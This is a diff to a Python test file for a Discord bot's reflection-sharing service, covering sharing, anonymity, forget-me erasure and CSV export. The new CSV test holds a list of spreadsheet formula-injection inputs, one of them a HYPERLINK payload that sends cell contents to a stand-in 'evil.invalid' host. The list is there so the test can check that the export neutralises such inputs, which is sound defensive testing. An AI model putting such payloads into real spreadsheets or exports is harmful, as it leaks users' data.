@@ -26,7 +26,9 @@ from bot.services.hub import Services
 from bot.services.reflections import (
     EMPTY_TEXT,
     PAGE_SIZE,
+    Forgotten,
     ReflectionService,
+    SharedPost,
     ShareFailed,
     Topic,
     check_text,
@@ -58,16 +60,28 @@ class FakeSharer:
     posts: dict[int, tuple[int, str, str]] = field(default_factory=dict)
     calls: list[tuple[str, int, int]] = field(default_factory=list)
     fail_with: Exception | None = None
+    closed_to_author: set[int] = field(default_factory=set)
+    markers: dict[int, int] = field(default_factory=dict)  # message id -> reflection id
     on_unshare: Callable[[int, int], Awaitable[None]] | None = None
     _next_id: int = 7_000
 
-    async def share(self, channel_id: int, title: str, text: str) -> int:
+    async def author_may_post(self, channel_id: int) -> bool:
+        return channel_id not in self.closed_to_author
+
+    async def share(self, channel_id: int, post: SharedPost) -> int:
         if self.fail_with is not None:
             raise self.fail_with
         self._next_id += 1
-        self.posts[self._next_id] = (channel_id, title, text)
+        author = "Anonymous" if post.author_id is None else str(post.author_id)
+        self.posts[self._next_id] = (channel_id, f"{author} on {post.topic_title}", post.text)
+        self.markers[self._next_id] = post.reflection_id
         self.calls.append(("share", channel_id, self._next_id))
         return self._next_id
+
+    async def find_share(self, channel_id: int, reflection_id: int, since: datetime) -> int | None:
+        self.calls.append(("find", channel_id, reflection_id))
+        found = [m for m, r in self.markers.items() if r == reflection_id and m in self.posts]
+        return found[-1] if found else None
 
     async def unshare(self, channel_id: int, message_id: int) -> None:
         self.calls.append(("unshare", channel_id, message_id))
@@ -232,14 +246,14 @@ async def test_cohort_and_anonymous_sharing_and_unsharing(
     assert saved.visibility == "cohort"
     assert saved.shared_channel_id == CHANNEL, "a card is shared where the member is"
     assert sharer.posts == {
-        saved.shared_message_id: (CHANNEL, f"Alice reflects on {CARD_TITLE}", "shared words")
+        saved.shared_message_id: (CHANNEL, f"{ALICE.user_id} on {CARD_TITLE}", "shared words")
     }
 
     anonymous = await service.set_visibility(ALICE, saved.id, "anonymous", sharer)
     assert saved.shared_message_id not in sharer.posts, "the named copy is gone"
     [(_, title, text)] = sharer.posts.values()
-    assert title == f"Anonymous member reflects on {CARD_TITLE}"
-    assert "Alice" not in title and text == "shared words"
+    assert title == f"Anonymous on {CARD_TITLE}"
+    assert str(ALICE.user_id) not in title and text == "shared words"
     assert anonymous.shared_message_id in sharer.posts
 
     private = await service.set_visibility(ALICE, saved.id, "private", sharer)
@@ -262,7 +276,7 @@ async def test_a_prompt_is_shared_in_its_thread(
     assert saved.shared_channel_id == THREAD and saved.shared_message_id is not None
     assert sharer.posts[saved.shared_message_id] == (
         THREAD,
-        f"Bob reflects on Prompt: {topic.title}",
+        f"{BOB.user_id} on Prompt: {topic.title}",
         "in the thread",
     )
 
@@ -329,7 +343,7 @@ async def test_editing_a_shared_reflection_reposts_it_once(
         ("share", CHANNEL, edited.shared_message_id),
     ], "the old copy is removed exactly once"
     assert list(sharer.posts.values()) == [
-        (CHANNEL, f"Alice reflects on {CARD_TITLE}", "new words")
+        (CHANNEL, f"{ALICE.user_id} on {CARD_TITLE}", "new words")
     ]
     assert edited.visibility == "cohort" and edited.text == "new words"
 
@@ -343,7 +357,7 @@ async def test_an_anonymous_reflection_stays_anonymous_when_edited_after_the_swi
     edited = await strict.edit(ALICE, saved.id, "edited, still anonymous", sharer)
     assert edited.visibility == "anonymous"
     [(_, title, text)] = sharer.posts.values()
-    assert title.startswith("Anonymous member") and text == "edited, still anonymous"
+    assert title.startswith("Anonymous on") and text == "edited, still anonymous"
 
 
 async def test_without_discord_shared_copies_are_never_orphaned(
@@ -639,7 +653,7 @@ async def test_forget_me_erases_everything_and_takes_shared_copies_down(
         assert (message_id,) in on_disk, "copies go before the records that point at them"
 
     sharer.on_unshare = still_on_record
-    assert await service.forget_me(ALICE, sharer) == 3
+    assert (await service.forget_me(ALICE, sharer)).erased == 3
     removed = {call[2] for call in sharer.calls if call[0] == "unshare"}
     assert removed == {named.shared_message_id, hidden.shared_message_id}
     assert list(sharer.posts) == [bobs.shared_message_id]
@@ -648,7 +662,7 @@ async def test_forget_me_erases_everything_and_takes_shared_copies_down(
     assert (await service.get(ALICE_ELSEWHERE, elsewhere.id)).text == "other server"
     schedule = await world.store.get_schedule(GUILD)
     assert schedule is not None and schedule.created_by is None
-    assert await service.forget_me(ALICE, sharer) == 0
+    assert await service.forget_me(ALICE, sharer) == Forgotten(0)
 
 
 async def test_forget_me_keeps_the_records_if_discord_fails(
@@ -665,7 +679,7 @@ async def test_forget_me_keeps_the_records_if_discord_fails(
         await service.forget_me(ALICE, sharer)
     assert len(world.rows()) == 1, "nothing is lost track of; trying again finishes it"
     sharer.on_unshare = None
-    assert await service.forget_me(ALICE, sharer) == 1
+    assert await service.forget_me(ALICE, sharer) == Forgotten(1)
     assert world.rows() == [] and sharer.posts == {}
 
 
@@ -728,18 +742,28 @@ async def test_retention_takes_shared_copies_down_first(world: World) -> None:
     assert ("unshare", shared.shared_channel_id, shared.shared_message_id) in sharer.calls
 
 
-@pytest.mark.parametrize(
-    ("text", "exported"),
-    [
-        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
-        ("+1 agree", "'+1 agree"),
-        ("@everyone look", "'@everyone look"),
-        ("-2+3", "'-2+3"),
-        ("- a bullet point", "- a bullet point"),
-        ("plain words", "plain words"),
-    ],
-)
-def test_csv_cells_never_run_as_formulas(text: str, exported: str) -> None:
-    from bot.services.reflections import spreadsheet_safe
+FORMULAS = [
+    '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")',
+    "+1 agree",
+    "-2+3",
+    "- a bullet point",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\r\nafter a line break",
+    "＝1+1",
+]
 
-    assert spreadsheet_safe(text) == exported
+
+async def test_csv_export_never_holds_a_live_formula_and_markdown_stays_exact(
+    world: World, service: ReflectionService
+) -> None:
+    for text in [*FORMULAS, "plain words"]:
+        await write(service, text=text)
+    exported = await service.export_csv(OWNER)
+    cells = [row["text"] for row in csv.DictReader(io.StringIO(exported))]
+    assert cells == [f"'{text}" for text in FORMULAS] + ["plain words"]
+    assert all(row["about"][0] not in "=+-@" for row in csv.DictReader(io.StringIO(exported)))
+    markdown = await service.export_mine(ALICE)
+    for text in FORMULAS:
+        assert f"\n{text}\n" in markdown, "the member's own export is exactly as written"
+    assert "'=" not in markdown and "'+" not in markdown
